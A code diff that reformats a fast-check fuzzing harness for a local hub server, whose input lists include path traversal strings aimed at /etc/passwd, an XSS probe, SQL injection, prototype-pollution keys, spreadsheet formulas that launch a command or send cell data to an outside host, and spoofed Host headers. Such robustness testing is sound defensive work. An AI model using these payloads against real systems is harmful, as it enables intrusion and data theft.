@@ -6,28 +6,91 @@ import type { FaultTally } from './tally.js';
 
 /** Strings that have broken servers before: traversal, bad escapes, odd Unicode, injection, the very long. */
 const NASTY = [
-  '..', '../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%2e%2e%2f', '..%c0%af', '%00', '\u0000', '%', '%%', '%ZZ', '%E0%A4%A',
-  '\uFEFF', '\u202Eevil', 'İı', 'ﬁ', '\uD800', '\uDFFF', '🇲🇱', 'ɛɔŋ', 'Sɛbɛn', '<script>alert(1)</script>', "' OR 1=1 --",
-  '_design/x', '_local/x', '_all_docs', 'constructor', '__proto__', 'prototype', 'toString', 'null', 'undefined', 'NaN', '-1',
-  '1e309', '9007199254740993', '0x10', ' ', '\t', '/', '//', '\\', 'a'.repeat(5000), 'é'.repeat(3000),
-  'media:' + 'a'.repeat(64), 'a'.repeat(64), 'A'.repeat(64), 'a'.repeat(64) + '.mp4', 'a'.repeat(63) + 'g',
+  '..',
+  '../../etc/passwd',
+  '..%2f..%2fetc%2fpasswd',
+  '%2e%2e%2f',
+  '..%c0%af',
+  '%00',
+  '\u0000',
+  '%',
+  '%%',
+  '%ZZ',
+  '%E0%A4%A',
+  '\uFEFF',
+  '\u202Eevil',
+  'İı',
+  'ﬁ',
+  '\uD800',
+  '\uDFFF',
+  '🇲🇱',
+  'ɛɔŋ',
+  'Sɛbɛn',
+  '<script>alert(1)</script>',
+  "' OR 1=1 --",
+  '_design/x',
+  '_local/x',
+  '_all_docs',
+  'constructor',
+  '__proto__',
+  'prototype',
+  'toString',
+  'null',
+  'undefined',
+  'NaN',
+  '-1',
+  '1e309',
+  '9007199254740993',
+  '0x10',
+  ' ',
+  '\t',
+  '/',
+  '//',
+  '\\',
+  'a'.repeat(5000),
+  'é'.repeat(3000),
+  'media:' + 'a'.repeat(64),
+  'a'.repeat(64),
+  'A'.repeat(64),
+  'a'.repeat(64) + '.mp4',
+  'a'.repeat(63) + 'g',
   // Issue #20: what reaches a spreadsheet or reorders a name on screen.
-  '=HYPERLINK("http://x.example/?"&A1;"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1+1', '\u2066x\u2069', '\u0085', '\u001b[31m',
+  '=HYPERLINK("http://x.example/?"&A1;"x")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+  '＝1+1',
+  '\u2066x\u2069',
+  '\u0085',
+  '\u001b[31m',
   // CouchDB parameters as the attacker sent them.
-  '{"a":1}', '[1]', '["zz"]', '["1-abc"]', 'all', '[]', '{}', '"x"', 'true', 'now', '1-abc',
+  '{"a":1}',
+  '[1]',
+  '["zz"]',
+  '["1-abc"]',
+  'all',
+  '[]',
+  '{}',
+  '"x"',
+  'true',
+  'now',
+  '1-abc',
 ];
 
 const text = fc.oneof(
   { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
   { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
   { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
-  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
+  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) }
 );
 
 /** How a piece of text goes into a URL: escaped, double-escaped, or raw with only the bytes HTTP forbids escaped. */
 function inUrl(s: string, how: 'escaped' | 'double' | 'raw'): string {
   const bytes = Buffer.from(s, 'utf8');
-  const esc = (keep: RegExp) => [...bytes].map((b) => (keep.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0').toUpperCase()}`)).join('');
+  const esc = (keep: RegExp) =>
+    [...bytes].map((b) => (keep.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0').toUpperCase()}`)).join('');
   if (how === 'raw') return esc(/[!-~]/);
   const once = esc(/[A-Za-z0-9\-_.~]/);
   return how === 'double' ? once.replace(/%/g, '%25') : once;
@@ -88,36 +151,95 @@ function nested(depth: number, open: string, close: string): string {
 
 const jsonBody = fc.oneof(
   fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)),
-  fc.record({ fullName: fc.anything(), sex: fc.anything(), ageBand: fc.anything(), commune: fc.anything(), consent: fc.anything() }).map((v) => JSON.stringify(v)),
+  fc
+    .record({ fullName: fc.anything(), sex: fc.anything(), ageBand: fc.anything(), commune: fc.anything(), consent: fc.anything() })
+    .map((v) => JSON.stringify(v)),
   fc.record({ consultation: text, option: text, deviceId: text, sex: text, ageBand: text }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
   fc.record({ official: text, message: text, audio: fc.record({ mime: text, data: text }) }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
   fc.record({ docs: fc.array(fc.record({ id: text, rev: text })) }).map((v) => JSON.stringify(v)),
   fc.dictionary(text, fc.array(text)).map((v) => JSON.stringify(v)),
   fc.integer({ min: 1, max: 20_000 }).map((d) => nested(d, '[', ']')),
   fc.integer({ min: 1, max: 20_000 }).map((d) => nested(d, '{"a":', '}').replace(/}+$/, (m) => '1' + m)),
-  fc.constantFrom('{', '{"a":', '[1,2', 'nul', '"\\ud800"', '{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}', '\u0000', '', '{}', '[]', '1', 'true', '"x"'),
-  text,
+  fc.constantFrom(
+    '{',
+    '{"a":',
+    '[1,2',
+    'nul',
+    '"\\ud800"',
+    '{"__proto__":{"x":1}}',
+    '{"constructor":{"prototype":{"x":1}}}',
+    '\u0000',
+    '',
+    '{}',
+    '[]',
+    '1',
+    'true',
+    '"x"'
+  ),
+  text
 );
-const formBody = fc.dictionary(fc.oneof(text, fc.constantFrom('fullName', 'sex', 'ageBand', 'commune', 'consent', 'option', 'message', 'username', 'password', 'a[b]', 'a[]', '_csrf')), text).map((d) =>
-  Object.entries(d).map(([k, v]) => `${inUrl(k, 'escaped')}=${inUrl(v, 'escaped')}`).join('&'),
-);
+const formBody = fc
+  .dictionary(
+    fc.oneof(text, fc.constantFrom('fullName', 'sex', 'ageBand', 'commune', 'consent', 'option', 'message', 'username', 'password', 'a[b]', 'a[]', '_csrf')),
+    text
+  )
+  .map((d) =>
+    Object.entries(d)
+      .map(([k, v]) => `${inUrl(k, 'escaped')}=${inUrl(v, 'escaped')}`)
+      .join('&')
+  );
 const hugeBody = fc.constantFrom(70 * 1024, 1024 * 1024, 6 * 1024 * 1024).map((n) => `{"fullName":"${'x'.repeat(n)}"}`);
 
 const CONTENT_TYPES = [
-  'application/json', 'application/json; charset=utf-8', 'application/json; charset=utf-16', 'application/json; charset=klingon',
-  'application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data; boundary=x', 'multipart/form-data', 'application/octet-stream',
-  '', '*/*', 'application/json, text/html', 'application/vnd.api+json',
+  'application/json',
+  'application/json; charset=utf-8',
+  'application/json; charset=utf-16',
+  'application/json; charset=klingon',
+  'application/x-www-form-urlencoded',
+  'text/plain',
+  'multipart/form-data; boundary=x',
+  'multipart/form-data',
+  'application/octet-stream',
+  '',
+  '*/*',
+  'application/json, text/html',
+  'application/vnd.api+json',
 ];
 
 /** Header values that are legal on the wire (visible latin-1) but mean nothing good. */
 const headerValue = fc.oneof(
-  fc.constantFrom('', ' ', 'bytes=0-0', 'bytes=-1', 'bytes=5-1', 'bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7', 'bytes=99999999999999-', 'bytes=abc', 'items=0-1', '*', 'gzip;q=NaN', 'x'.repeat(8000), '"x"', 'W/"x"', 'fr;q=2, bm;q=-1, *;q=0', 'zz-ZZ', 'lang=xx; espace_session=../../etc; espace_session=' + 'a'.repeat(500)),
+  fc.constantFrom(
+    '',
+    ' ',
+    'bytes=0-0',
+    'bytes=-1',
+    'bytes=5-1',
+    'bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7',
+    'bytes=99999999999999-',
+    'bytes=abc',
+    'items=0-1',
+    '*',
+    'gzip;q=NaN',
+    'x'.repeat(8000),
+    '"x"',
+    'W/"x"',
+    'fr;q=2, bm;q=-1, *;q=0',
+    'zz-ZZ',
+    'lang=xx; espace_session=../../etc; espace_session=' + 'a'.repeat(500)
+  ),
   fc.string({ unit: 'binary-ascii', maxLength: 60 }).map((s) => s.replace(/[^\t\x20-\x7e]/g, '')),
-  fc.string({ unit: 'binary', maxLength: 30 }).map((s) => Buffer.from(s, 'utf8').toString('latin1').replace(/[^\t\x20-\x7e\x80-\xff]/g, '')),
+  fc.string({ unit: 'binary', maxLength: 30 }).map((s) =>
+    Buffer.from(s, 'utf8')
+      .toString('latin1')
+      .replace(/[^\t\x20-\x7e\x80-\xff]/g, '')
+  )
 );
 const headers = fc.record(
   {
-    host: fc.oneof(headerValue, fc.constantFrom('evil.example', 'espace.home.arpa', 'localhost:1', '[::1]', '127.0.0.1:0', 'a'.repeat(300), 'espace.home.arpa.evil.example')),
+    host: fc.oneof(
+      headerValue,
+      fc.constantFrom('evil.example', 'espace.home.arpa', 'localhost:1', '[::1]', '127.0.0.1:0', 'a'.repeat(300), 'espace.home.arpa.evil.example')
+    ),
     'accept-language': headerValue,
     cookie: headerValue,
     range: headerValue,
@@ -129,7 +251,7 @@ const headers = fc.record(
     accept: headerValue,
     'user-agent': headerValue,
   },
-  { requiredKeys: [] },
+  { requiredKeys: [] }
 );
 
 export interface FuzzCase {
@@ -140,7 +262,9 @@ export interface FuzzCase {
 }
 
 export const fuzzCase: fc.Arbitrary<FuzzCase> = fc.oneof(
-  fc.record({ fn: fc.constantFrom(...GET_PATHS), a: seg, b: seg, headers, method: fc.constantFrom('GET', 'GET', 'GET', 'HEAD', 'OPTIONS', 'DELETE', 'PUT') }).map(({ fn, a, b, headers: h, method }) => ({ method, path: fn(a, b), headers: h })),
+  fc
+    .record({ fn: fc.constantFrom(...GET_PATHS), a: seg, b: seg, headers, method: fc.constantFrom('GET', 'GET', 'GET', 'HEAD', 'OPTIONS', 'DELETE', 'PUT') })
+    .map(({ fn, a, b, headers: h, method }) => ({ method, path: fn(a, b), headers: h })),
   // Checkpoints a replicator writes on the source: bounded ids, bodies, revisions (issue #20).
   fc.record({ id: seg, body: jsonBody, method: fc.constantFrom('PUT', 'PUT', 'DELETE', 'GET'), headers }).map(({ id, body, method, headers: h }) => ({
     method,
@@ -148,12 +272,14 @@ export const fuzzCase: fc.Arbitrary<FuzzCase> = fc.oneof(
     headers: { ...h, 'content-type': 'application/json' },
     ...(method === 'PUT' ? { body } : {}),
   })),
-  fc.record({
-    path: fc.constantFrom(...POST_PATHS),
-    body: fc.oneof({ weight: 6, arbitrary: jsonBody }, { weight: 3, arbitrary: formBody }, { weight: 1, arbitrary: hugeBody }),
-    type: fc.constantFrom(...CONTENT_TYPES),
-    headers,
-  }).map(({ path, body, type, headers: h }) => ({ method: 'POST', path, body, headers: { ...h, ...(type ? { 'content-type': type } : {}) } })),
+  fc
+    .record({
+      path: fc.constantFrom(...POST_PATHS),
+      body: fc.oneof({ weight: 6, arbitrary: jsonBody }, { weight: 3, arbitrary: formBody }, { weight: 1, arbitrary: hugeBody }),
+      type: fc.constantFrom(...CONTENT_TYPES),
+      headers,
+    })
+    .map(({ path, body, type, headers: h }) => ({ method: 'POST', path, body, headers: { ...h, ...(type ? { 'content-type': type } : {}) } }))
 );
 
 /** Requests no HTTP client library would send: the hub (node's parser) must answer 4xx or close, never fall over. */
@@ -214,7 +340,9 @@ async function sendCase(tally: FaultTally, base: string, c: FuzzCase): Promise<n
   tally.requestsFuzzed += 1;
   if (status >= 500) {
     tally.fiveXX += 1;
-    tally.problem(`${c.method} ${c.path.slice(0, 160)} ${JSON.stringify(c.headers).slice(0, 200)} body ${JSON.stringify((c.body ?? '').slice(0, 120))} → ${status} ${body}`);
+    tally.problem(
+      `${c.method} ${c.path.slice(0, 160)} ${JSON.stringify(c.headers).slice(0, 200)} body ${JSON.stringify((c.body ?? '').slice(0, 120))} → ${status} ${body}`
+    );
   }
   return status;
 }
@@ -256,6 +384,6 @@ export async function fuzzHub(tally: FaultTally, base: string, opts: FuzzOptions
   }
   await fc.assert(
     fc.asyncProperty(cases, async (c) => (await sendCase(tally, base, c)) < 500),
-    { numRuns: opts.runs, seed, endOnFailure: true },
+    { numRuns: opts.runs, seed, endOnFailure: true }
   );
 }
